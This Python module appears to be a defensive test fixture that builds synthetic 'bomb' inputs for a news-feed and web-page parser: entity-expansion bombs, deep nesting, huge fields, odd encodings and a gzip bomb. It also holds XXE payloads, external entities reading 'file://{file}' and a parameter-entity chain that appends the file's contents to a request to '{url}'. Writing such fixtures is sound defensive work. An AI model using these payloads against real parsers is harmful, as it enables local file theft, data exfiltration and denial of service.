"""Bodies made to stall, swell or mislead a parser (all synthetic), each made when it is asked for.

`BOMBS` maps a name to a factory of bytes. `{file}` and `{url}` in a bomb stand for a
file and an address that nothing may read; see `armed`.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Callable

BOMBS: dict[str, Callable[[], bytes]] = {}

_RSS = "<?xml version='1.0'?>{}<rss version='2.0'><channel><title>t</title>{}</channel></rss>"
_ITEM = "<item><title>{}</title><link>https://bomb.example/1</link>{}</item>"
_PAGE = "<!DOCTYPE html><html><head><title>t</title>{}</head><body>{}</body></html>"
_PROSE = "<p>Words of a synthetic paragraph that is long enough to be one, with a comma.</p>"
_MEGA = 1_000_000


def armed(name: str, *, file: str, url: str) -> bytes:
    """A bomb with the file and the address in it that it tries to have read."""
    return BOMBS[name]().replace(b"{file}", file.encode()).replace(b"{url}", url.encode())


def _bomb(name: str, make: Callable[[], str | bytes]) -> None:
    def body() -> bytes:
        made = make()
        return made if isinstance(made, bytes) else made.encode("utf-8", "surrogatepass")

    assert name not in BOMBS
    BOMBS[name] = body


def _rss(inner: str, doctype: str = "") -> str:
    return _RSS.format(doctype, inner)


def _item(title: str = "x", more: str = "") -> str:
    return _rss(_ITEM.format(title, more))


def _page(body: str, head: str = "") -> str:
    return _PAGE.format(head, body + _PROSE * 5)


def _many(template: str, count: int) -> str:
    """The template so many times, each `#` in it a number of its own."""
    return "".join(template.replace("#", str(n)) for n in range(count))


def _ld(text: str) -> str:
    return _page("", f"<script type='application/ld+json'>{text}</script>")


def _lines(text: str) -> str:
    """The text in each field of an item that is read as one line."""
    inside = f"<![CDATA[{text}]]>"
    return _rss(
        f"<item><title>{inside}</title><link>{inside}</link><guid>{inside}</guid>"
        f"<author>{inside}</author><category>{inside}</category><source>{inside}</source></item>"
    )


def _head(text: str) -> str:
    """The text in what a page says of itself, and in its first headline."""
    quoted = text.replace('"', "&quot;")
    return _page(
        f'<h1>{text}</h1><span class=author>{text}</span><a href="{quoted}">{text}</a>',
        f'<title>{text}</title><meta property=og:title content="{quoted}">'
        f'<link rel=canonical href="{quoted}"><meta name=author content="{quoted}">',
    )


def _json_feed(**more: object) -> str:
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "t", **more})


# ---- declarations: what grows, and what lies outside --------------------------------

_LAUGHS = "<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '" + f"&a{n - 1};" * 10 + "'>" for n in range(1, 11)
)
_bomb("billion laughs", lambda: _rss(_ITEM.format("&a10;", ""), f"<!DOCTYPE rss [{_LAUGHS}]>"))
_bomb(
    "billion laughs in a page",
    lambda: f"<!DOCTYPE html [{_LAUGHS}]><html><body>{_PROSE * 5}&a10;</body></html>",
)
_bomb(
    "quadratic entities",
    lambda: _rss(
        _ITEM.format("&a;" * 50_000, ""), f"<!DOCTYPE rss [<!ENTITY a '{'a' * 50_000}'>]>"
    ),
)
_bomb(
    "short entities, a million times",
    lambda: _rss(_ITEM.format("&a;" * 900_000, ""), f"<!DOCTYPE rss [<!ENTITY a '{'a' * 60}'>]>"),
)
_bomb(
    "entities of itself",
    lambda: _rss(_ITEM.format("&a;", ""), "<!DOCTYPE rss [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>"),
)
_bomb(
    "hundreds of thousands of entities",
    lambda: _rss(
        _ITEM.format("&e1;", ""),
        "<!DOCTYPE rss [" + _many("<!ENTITY e# 'x'>", 200_000) + "]>",
    ),
)
_bomb(
    "an external entity of a file",
    lambda: _rss(_ITEM.format("&x;", ""), "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file://{file}'>]>"),
)
_bomb(
    "an external entity of an address",
    lambda: _rss(_ITEM.format("&x;", ""), "<!DOCTYPE rss [<!ENTITY x PUBLIC 'p' '{url}'>]>"),
)
_bomb(
    "an external DTD",
    lambda: _rss(_ITEM.format("&x;", ""), "<!DOCTYPE rss SYSTEM '{url}dtd'>"),
)
_bomb(
    "external parameter entities",
    lambda: _rss(
        _ITEM.format("&x;", ""),
        "<!DOCTYPE rss [<!ENTITY % d SYSTEM '{url}dtd'><!ENTITY % f SYSTEM 'file://{file}'> %d; %f;"
        "<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{url}?%f;'>\"> %e; %s;]>",
    ),
)
_bomb(
    "a sitemap with an external entity",
    lambda: (
        "<!DOCTYPE urlset [<!ENTITY x SYSTEM 'file://{file}'>]><urlset><url>"
        "<loc>https://bomb.example/&x;</loc></url></urlset>"
    ),
)
_bomb(
    "XInclude",
    lambda: _item(
        "x",
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{file}' parse='text'/>"
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{url}'/>",
    ),
)
_bomb(
    "a style sheet, a schema and a base to fetch",
    lambda: (
        "<?xml version='1.0'?><?xml-stylesheet href='{url}x.xsl' type='text/xsl'?>"
        "<rss version='2.0' xml:base='{url}' xmlns:i='http://www.w3.org/2001/XMLSchema-instance' "
        "i:noNamespaceSchemaLocation='{url}x.xsd'><channel><title>t</title>"
        "<image><url>{url}i.png</url></image><item><title>x</title><link>/1</link></item></channel></rss>"
    ),
)
_bomb(
    "everything that a browser would fetch",
    lambda: _page(
        "<img src='{url}i'><iframe src='{url}f'></iframe><object data='file://{file}'></object>"
        "<video src='{url}v'></video><svg><use href='{url}u'/></svg>",
        "<base href='{url}'><link rel=stylesheet href='{url}s'><script src='{url}j'></script>"
        "<meta http-equiv=refresh content='0;url={url}'><link rel=import href='file://{file}'>",
    ),
)
_bomb("an address as the whole body", lambda: "{url}feed.xml")
_bomb("a path as the whole body", lambda: "{file}")
_bomb("a doctype that never ends", lambda: "<!DOCTYPE rss [" + "<!ENTITY a 'a'>" * 100_000)
_bomb("doctypes without end", lambda: "<!DOCTYPE a [" * 300_000)
_bomb("quotes in a doctype", lambda: "<!DOCTYPE a [" + "\"'" * 2 * _MEGA + "]><rss/>")
_bomb("closed quotes in a doctype", lambda: "<!DOCTYPE a [" + "''" * 2 * _MEGA + "]><rss/>")
_bomb("comments in a doctype", lambda: "<!DOCTYPE a [" + "<!--" * _MEGA + "]><rss/>")

# ---- depth -------------------------------------------------------------------------

_bomb("tags 100,000 deep", lambda: _item("x", "<a>" * 100_000 + "</a>" * 100_000))
_bomb("tags 100,000 deep and open", lambda: _item("x", "<a>" * 100_000))
_bomb("items in items", lambda: _rss("<item><title>x</title>" * 100_000))
_bomb("a sitemap 100,000 deep", lambda: "<urlset>" + "<url>" * 100_000)
_bomb(
    "Atom's own HTML 50,000 deep",
    lambda: (
        "<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title><entry><id>1</id><title>x</title>"
        "<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>"
        + "<div>" * 50_000
        + "</div>" * 50_000
        + "</div></content></entry></feed>"
    ),
)
_bomb(
    "a description 100,000 deep",
    lambda: _item("x", f"<description><![CDATA[{'<div>' * 100_000}]]></description>"),
)
_bomb("divs 100,000 deep", lambda: _page("<div>" * 100_000 + "x" + "</div>" * 100_000))
_bomb("tables 100,000 deep", lambda: _page("<table><tr><td>" * 100_000))
_bomb("links and bold 100,000 deep", lambda: _page("<a href=/x><b><i><p>" * 100_000))
_bomb("blocks in links", lambda: _page("<a href=/1><div>" * 50_000))
_bomb("words fostered out of a table", lambda: _page("<table>" + "x<b>" * 100_000))
_bomb("lists, options and definitions open", lambda: _page("<ul><li><dl><dd><select>" * 50_000))
_bomb("SVG and MathML 100,000 deep", lambda: _page("<svg><desc><math><mi>" * 50_000))
_bomb("templates 100,000 deep", lambda: _page("<template>" * 100_000))
_bomb("unknown elements 100,000 deep", lambda: _page("<x-y>" * 100_000))
_bomb("JSON lists 100,000 deep", lambda: "[" * 100_000 + "]" * 100_000)
_bomb(
    "JSON objects 100,000 deep",
    lambda: '{"version":"https://jsonfeed.org/version/1","items":' + '{"a":' * 100_000,
)
_bomb("JSON-LD 100,000 deep", lambda: _ld('{"@graph":' * 100_000 + "1" + "}" * 100_000))
_bomb("JSON-LD lists 900 deep", lambda: _ld("[" * 900 + '{"@type":"NewsArticle"}' + "]" * 900))

# ---- width -------------------------------------------------------------------------

_bomb(
    "50,000 attributes of an item",
    lambda: _rss("<item" + _many(" a#=''", 50_000) + "><title>x</title></item>"),
)
_bomb(
    "50,000 namespaces",
    lambda: _rss("<item" + _many(" xmlns:a#='u#'", 50_000) + "><title>x</title></item>"),
)
_bomb(
    "50,000 attributes of a div",
    lambda: _page("<div" + _many(" a#=1", 50_000) + ">x</div>"),
)
_bomb("50,000 times one attribute", lambda: _page(f"<div {'class=a ' * 50_000}>x</div>"))
_bomb("50,000 attributes of html", lambda: f"<html {'a b=1 ' * 50_000}><body>{_PROSE * 5}")
_bomb("50,000 classes", lambda: _page(f"<div class='{' '.join(map(str, range(50_000)))}'>x</div>"))
_bomb("an attribute of 20 MB", lambda: _item("x", f"<a b='{'x' * 20 * _MEGA}'/>"))
_bomb("an attribute of 20 MB in a page", lambda: _page(f"<a href='{'x' * 20 * _MEGA}'>x</a>"))
_bomb("a text of 20 MB", lambda: _item("x", f"<description>{'word ' * 4 * _MEGA}</description>"))
_bomb("a title of 20 MB", lambda: _item("y" * 20 * _MEGA))
_bomb("a paragraph of 20 MB", lambda: _page(f"<p>{'word, ' * 3_400_000}</p>"))
_bomb("a word of 5 MB", lambda: _page(f"<p>{'w' * 5 * _MEGA}</p>"))
_bomb("a tag's name of 5 MB", lambda: _rss(f"<{'a' * 5 * _MEGA}>x"))
_bomb(
    "an address of 5 MB",
    lambda: _item("x", f"<guid>https://bomb.example/{'../' * 1_600_000}</guid>"),
)
_bomb(
    "a base that makes every address long",
    lambda: _rss(
        f"<item xml:base='http://bomb.example/{'x' * 60_000}/'><title>x</title>"
        f"<description><![CDATA[{'<a href=x>y</a>' * 20_000}]]></description></item>"
    ),
)
_bomb(
    "a base that makes every link of a page long",
    lambda: _page(
        _many("<h2><a href=n/#>A headline of some words</a></h2>", 20_000),
        f"<base href='http://bomb.example/{'x' * 60_000}/'>",
    ),
)
_bomb(
    "a data address of 5 MB", lambda: _page(f"<img src='data:image/png;base64,{'A' * 5 * _MEGA}'>")
)
_bomb("100,000 items", lambda: _rss(_ITEM.format("x", "<pubDate>today</pubDate>") * 100_000))
_bomb("100,000 empty items", lambda: _rss("<item/>" * 100_000))
_bomb("100,000 items of JSON", lambda: _json_feed(items=[{"id": n} for n in range(100_000)]))
_bomb(
    "100,000 WordPress posts",
    lambda: json.dumps([{"link": f"/{n}", "title": {"rendered": "x"}} for n in range(100_000)]),
)
_bomb(
    "100,000 addresses of a sitemap",
    lambda: "<urlset>" + "<url><loc>https://bomb.example/1</loc></url>" * 100_000 + "</urlset>",
)
_bomb("300,000 lines of addresses", lambda: "https://bomb.example/1\n" * 300_000)
_bomb(
    "100,000 links",
    lambda: _page(_many("<a href=/n/#>A headline</a>", 100_000)),
)
_bomb(
    "100,000 feeds named",
    lambda: _page("", "<link rel=alternate type=application/rss+xml href=/f>" * 100_000),
)
_bomb("100,000 metas", lambda: _page("", "<meta property=og:title content=x>" * 100_000))
_bomb("100,000 paragraphs", lambda: _page(_PROSE * 100_000))
_bomb("100,000 breaks", lambda: _page("<p>" + "a line, it is<br>" * 100_000))
_bomb(
    "1,500 headlines of a text that tells of none",
    lambda: (
        "<html><body>"
        + _many("<p>Seven plain words that nobody tells q#z</p>", 1_500)
        + _many(
            "<p>Here a sentence goes on, of matters that have the number r#x, and ends.</p>", 1_400
        )
    ),
)
_bomb(
    "20,000 scripts of JSON-LD",
    lambda: _page("", "<script type=application/ld+json>{}</script>" * 20_000),
)
_bomb("20,000 tables", lambda: _page("<table><tr><td>x</td></tr></table>" * 20_000))

# ---- markup without end ---------------------------------------------------------------

_UNITS = {
    "angle brackets": "<",
    "ampersands": "&",
    "open tags": "<a ",
    "open ends": "</",
    "open declarations": "<!",
    "open instructions": "<?",
    "open comments": "<!--",
    "open CDATA": "<![CDATA[",
    "ends of CDATA": "]]>",
    "open character references": "&#",
    "character references beyond Unicode": "&#x110000;",
    "entities nobody knows": "&nobody;",
    "escapes of escapes": "&amp;amp;lt;p&amp;gt;",
    "open quotes": "<a b='",
    "greater-than signs": ">",
    "open scripts": "<script>",
    "open text areas": "<textarea><title>",
    "brackets of JSON": "[{",
    "backslashes": "\\",
    "quotes": '"',
}
for _name, _unit in _UNITS.items():
    _bomb(f"5 MB of {_name}", lambda unit=_unit: unit * (5 * _MEGA // len(unit)))
    _bomb(
        f"3 MB of {_name} in a feed", lambda unit=_unit: _item("x", unit * (3 * _MEGA // len(unit)))
    )
    _bomb(
        f"3 MB of {_name} in a description",
        lambda unit=_unit: _item(
            "x",
            f"<description><![CDATA[{(unit * (3 * _MEGA // len(unit))).replace(']]>', ']] >')}]]></description>",
        ),
    )
    _bomb(f"3 MB of {_name} in a page", lambda unit=_unit: _page(unit * (3 * _MEGA // len(unit))))
for _name, _unit in {
    **_UNITS,
    "letters": "a",
    "blank lines": " \n",
    "mailboxes": "a@",
    "dashes between blanks": " - ",
    "dots and digits": "1.",
    "Arabic words": "خبر ",
}.items():
    _bomb(
        f"1 MB of {_name} in a feed's lines",
        lambda unit=_unit: _lines((unit * (_MEGA // len(unit))).replace("]]>", "]] >")),
    )
    _bomb(
        f"1 MB of {_name} in a page's head",
        lambda unit=_unit: _head(unit * (_MEGA // len(unit))),
    )
_bomb("an open comment", lambda: _item("x") + "<!--" + "x" * 5 * _MEGA)
_bomb("an open CDATA", lambda: _rss("<item><title><![CDATA[" + "x" * 5 * _MEGA))
_bomb("blanks in a tag", lambda: _rss("<item" + " " * 5 * _MEGA))
_bomb("blanks before the feed", lambda: " \n" * 2 * _MEGA + _item())
_bomb("comments before the feed", lambda: "<!-- x -->" * 400_000 + _item())
_bomb("instructions before the feed", lambda: "<?x?>" * 800_000 + _item())

# ---- letters ---------------------------------------------------------------------------

_bomb("NULs", lambda: b"\x00" * 5 * _MEGA)
_bomb("NULs between the letters", lambda: "\x00".join(_item("x")).encode())
_bomb("NULs in a page", lambda: _page("\x00" * _MEGA))
_bomb("UTF-16 without a mark", lambda: _item("ع" * 1000).encode("utf-16-le"))
_bomb("UTF-16 the other way", lambda: _item("ع" * 1000).encode("utf-16-be"))
_bomb(
    "UTF-16 labelled UTF-8",
    lambda: _item("x").replace("?>", " encoding='utf-8'?>", 1).encode("utf-16"),
)
_bomb(
    "UTF-8 labelled UTF-16",
    lambda: _item("x").replace("?>", " encoding='utf-16'?>", 1),
)
_bomb("UTF-32", lambda: _item("x").encode("utf-32"))
_bomb("half a letter of UTF-16", lambda: _item("x").encode("utf-16")[:-1] + b"\xd8")
_bomb("UTF-7", lambda: b"+/v8-" + _item("x").encode("utf-7"))
_bomb(
    "UTF-7 by label",
    lambda: b"<?xml version='1.0' encoding='utf-7'?>+ADw-rss+AD4-+ADw-script+AD4-",
)
_bomb(
    "a codec that is none", lambda: b"<?xml version='1.0' encoding='zip_codec'?>" + b"x\x9c\xff" * 9
)
_bomb(
    "a codec that takes its time", lambda: b"<?xml encoding='punycode'?><rss>" + b"\xff-a" * _MEGA
)
_bomb("a codec of host names", lambda: b"<?xml encoding='idna'?><rss>" + b"\xff.a" * _MEGA)
_bomb("lone surrogates", lambda: _item("\ud800" * 1000))
_bomb(
    "lone surrogates in JSON",
    lambda: _json_feed(items=[{"id": "\ud800", "url": "/\udfff", "title": "\udc00"}]),
)
_bomb("overlong UTF-8", lambda: _item("x").encode().replace(b"x", b"\xc0\xbc" * 1000))
_bomb(
    "a picture in a page of windows-1256",
    lambda: _page(f"<p>خبر</p><img src='data:image/png;base64,{'A' * _MEGA}'>").encode("cp1256"),
)
_bomb("bytes of no coding", lambda: b"<rss><channel><title>" + bytes(range(128, 256)) * 20_000)
_bomb(
    "combining marks",
    lambda: _item("x" + "\u0301" * _MEGA, f"<description>{'ا' + 'َ' * _MEGA}</description>"),
)
_bomb(
    "combining marks in a page",
    lambda: _page(f"<p>{'a' + chr(0x301) * _MEGA}</p><p>{'ـ' * _MEGA}</p>"),
)
_bomb("direction marks", lambda: _item("\u202e\u2066" * 500_000))
_bomb("direction marks in a page", lambda: _page("<h1>" + "\u202e\u2066" * 500_000 + "</h1>"))
_bomb(
    "letters that grow when folded",
    lambda: _page(f"<h1>{'ﷺ' * 300_000}</h1><p>{'ﷺ ' * 300_000}</p>"),
)
_bomb("control characters", lambda: _item("\x01\x02\x7f\x9f" * 500_000))
_bomb("form feeds and line separators", lambda: _page("\x0c\x85\u2028" * 500_000))

# ---- files of other kinds ---------------------------------------------------------------

_bomb("nothing", lambda: b"")
_bomb("blanks", lambda: b" \t\r\n" * _MEGA)
_bomb("a byte order mark alone", lambda: b"\xef\xbb\xbf")
_bomb("gzip", lambda: gzip.compress(_item("x").encode()))
_bomb("gzip cut short", lambda: gzip.compress(_item("x").encode())[:-20])
_bomb("gzip in gzip", lambda: gzip.compress(gzip.compress(_item("x").encode())))
_bomb("a gzip bomb", lambda: gzip.compress(b"<urlset>" + b" " * 60 * _MEGA))
_bomb("100,000 gzip members", lambda: gzip.compress(b"") * 100_000)
_bomb("deflate", lambda: zlib.compress(_item("x").encode()))
_bomb("PNG", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4000)
_bomb("PDF", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4000)
_bomb("a zip", lambda: b"PK\x03\x04" + bytes(range(256)) * 4000)
_bomb("an executable", lambda: b"\x7fELF" + bytes(range(256)) * 4000)
_bomb("noise", lambda: bytes(n * n % 251 for n in range(2 * _MEGA)))

# ---- numbers, dates and types --------------------------------------------------------------

for _name, _date in {
    "digits": "1",
    "blanks": " ",
    "colons": "1:",
    "dashes": "2025-04-",
    "Arabic digits": "٢",
    "month names": "April ",
    "zones": " +0300",
    "minutes ago": "قبل 44 ",
}.items():
    _bomb(
        f"{_name} without end in a date",
        lambda unit=_date: _item(
            "x", f"<pubDate>Mon, 28 {unit * (2 * _MEGA // len(unit))}</pubDate>"
        ),
    )
    _bomb(
        f"{_name} without end in a page's date",
        lambda unit=_date: _page(
            f"<time datetime='2025{unit * 100_000}'>{unit * 400_000}</time>",
            f"<meta property='article:published_time' content='{unit * 400_000}'>",
        ),
    )
_bomb(
    "digits without end in ttl",
    lambda: _rss(f"<ttl>{'9' * 2 * _MEGA}</ttl>" + _ITEM.format("x", "")),
)
_bomb("digits without end in JSON", lambda: '{"version":' + "9" * 2 * _MEGA + "}")
_bomb(
    "an exponent without end",
    lambda: _json_feed(items=[{"id": 1}])[:-1] + ',"a":1e' + "9" * _MEGA + "}",
)
_bomb(
    "wrong types of JSON",
    lambda: _json_feed(
        items=[
            {
                "id": {}, "url": [], "title": 3, "summary": True, "content_html": {"a": 1},
                "content_text": [1], "date_published": 5, "authors": {"a": []}, "language": {},
            },
            {"id": None, "authors": [None, 3, {"name": []}]},
            None, 5, [], "x",
        ],
        language=["ar"], home_page_url=7, authors="x", hubs={"a": 1}, feed_url=[],
    ),
)  # fmt: skip
_bomb("a JSON Feed whose items are words", lambda: _json_feed(items="abc"))
_bomb("JSON that is one string", lambda: json.dumps("x" * 5 * _MEGA))
_bomb(
    "wrong types of JSON-LD",
    lambda: _ld(
        json.dumps(
            {
                "@graph": [
                    {"@type": [{"a": 1}, "NewsArticle"], "headline": {"a": [1]}, "datePublished": [5], "articleBody": [[]]},
                    {"@type": "NewsArticle", "author": [[[]], 5, {"name": {}}], "publisher": "x", "mainEntityOfPage": [1]},
                ]
            }
        )
    ),
)  # fmt: skip
_bomb(
    "wrong types of WordPress",
    lambda: json.dumps([{"link": "/1", "title": {"rendered": "x"}, "id": [], "content": 5, "_embedded": {"author": {}}}, [], None]),
)  # fmt: skip
_bomb(
    "wrong types of GDELT",
    lambda: json.dumps({"articles": [{"seendate": 5, "url": {}, "title": []}, None, {"url": "/1", "language": []}]}),
)  # fmt: skip
_bomb(
    "a feed in a feed",
    lambda: _item(
        "x",
        f"<description><![CDATA[{_item('y')}]]></description>",
    ),
)
_bomb("a page of furniture", lambda: _page("<p>اقرأ أيضا: " + "قراءة المزيد " * 200_000 + "</p>"))
_bomb("a page of commas", lambda: _page("<p>" + "،," * 500_000 + "</p>"))
_bomb("a sentence of numbers", lambda: _page("<p>" + "1.5 10,000 ١٠٬٠٠٠ " * 100_000 + "</p>"))
_bomb(
    "an index that names itself",
    lambda: "<sitemapindex>" + "<sitemap><loc>/</loc></sitemap>" * 100_000,
)
